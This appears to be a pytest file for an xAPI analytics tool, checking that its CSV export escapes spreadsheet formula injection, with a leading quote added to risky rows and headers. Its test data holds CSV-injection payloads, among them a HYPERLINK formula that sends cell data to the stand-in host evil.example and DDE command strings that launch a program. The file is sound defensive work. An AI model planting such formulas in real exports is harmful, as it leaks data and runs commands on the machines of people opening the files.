"""A CSV cell a spreadsheet would run as a formula is written as text: xAPI text (an activity's name, a learner's
response, a title) reaches exports unchanged, and a cell such as `=HYPERLINK("https://evil.example/?"&A2)` opened
in a spreadsheet by an instructor would run there (OWASP: CSV injection). Such a cell, in a row or in the header
(a column alias of a saved query), gets a leading `'`; numbers, dates and ordinary text are written as they are."""

from __future__ import annotations

import csv
import io

import pytest

from analytics.test_executor_formats import sample
from xolap.analytics.executor import QueryResult
from xolap.analytics.result_formats import csv_value, iter_csv

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A2,"open")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
]
KEPT = ["ordinary text", "2026-11-30", "-5", "+1.5", "-2.5e3", "", "a=b", "e-mail", "x@y.z"]


def _cells(result: QueryResult) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(iter_csv(result)))))


def _result(columns, rows) -> QueryResult:
    return sample(rows, columns=list(columns), types=["String"] * len(columns))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(text):
    assert csv_value(text) == "'" + text
    assert _cells(_result(["name"], [(text,)]))[1] == ["'" + text]


@pytest.mark.parametrize("text", KEPT)
def test_numbers_dates_and_ordinary_text_are_written_as_they_are(text):
    assert csv_value(text) == text
    assert _cells(_result(["name"], [(text,)]))[1] == [text]


def test_numbers_stay_numbers():
    assert [csv_value(v) for v in (-5, -2.5, 0)] == [-5, -2.5, 0]


def test_a_header_a_spreadsheet_would_run_is_written_as_text():
    assert _cells(_result(["=1+1", "count"], [("a", "b")]))[0] == ["'=1+1", "count"]
